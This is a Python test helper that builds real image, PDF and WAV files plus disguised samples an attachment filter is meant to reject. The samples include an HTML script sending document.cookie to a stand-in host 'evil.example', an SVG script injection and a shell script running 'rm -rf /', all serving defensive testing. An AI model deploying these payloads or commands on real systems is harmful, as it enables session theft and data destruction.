"""Real files for the attachment tests, made here: a photo (JPEG, PNG), a recording (WAV) and a document
(PDF), each a file its own reader opens; and files that only pretend (HTML named `.jpg`, ...). The case
settings' attachment rules pointed at a test's own folder (`with_attachments`)."""

from __future__ import annotations

import io
import random
import wave
from dataclasses import replace
from pathlib import Path

from PIL import Image

from ari_app.cases import CaseSettings
from ari_app.config import AttachmentRules


def jpeg(seed: int = 0, size: tuple[int, int] = (32, 24), *, noisy: bool = False) -> bytes:
    """A real JPEG photo (Pillow's encoder); `seed` changes its colour, so its bytes. `noisy`: random pixels
    (from `seed`), which JPEG cannot compress much, for a large file."""
    out = io.BytesIO()
    if noisy:
        image = Image.frombytes("RGB", size, random.Random(seed).randbytes(size[0] * size[1] * 3))
    else:
        image = Image.new("RGB", size, (seed % 256, 120, 200))
    image.save(out, format="JPEG", quality=90)
    return out.getvalue()


def png(seed: int = 0, size: tuple[int, int] = (16, 16)) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", size, (10, seed % 256, 30)).save(out, format="PNG")
    return out.getvalue()


def pdf() -> bytes:
    """A one-page PDF document (Pillow writes it)."""
    out = io.BytesIO()
    Image.new("RGB", (20, 20), (255, 255, 255)).save(out, format="PDF")
    return out.getvalue()


def wav(seconds: float = 0.2) -> bytes:
    """A recording: 8 kHz mono 16-bit PCM WAV, a 440 Hz square wave."""
    out = io.BytesIO()
    with wave.open(out, "wb") as w:
        w.setnchannels(1)
        w.setsampwidth(2)
        w.setframerate(8000)
        frames = int(8000 * seconds)
        w.writeframes(b"".join((b"\xff\x3f" if (i // 9) % 2 else b"\x01\xc0") for i in range(frames)))
    return out.getvalue()


HTML = b"<!DOCTYPE html>\n<html><body><script>document.location='https://evil.example/'+document.cookie</script></body></html>\n"
SVG = b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>\n'
SHELL = b"#!/bin/sh\nrm -rf /\n"
ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8 + b"\x02\x00\x3e\x00\x01\x00\x00\x00" + b"\x00" * 40
REFUSED = {"html": HTML, "svg": SVG, "shell": SHELL, "elf": ELF, "empty": b"", "text": b"just some words\n"}
"""Bytes attachments refuse whatever their name, by what they are."""


def with_attachments(settings: CaseSettings, folder: Path, **rules: object) -> CaseSettings:
    """`settings` with attachments kept under `folder` (which need not exist yet), `rules` over the defaults."""
    return replace(settings, attachments=replace(AttachmentRules(dir=folder), **rules))  # type: ignore[arg-type]
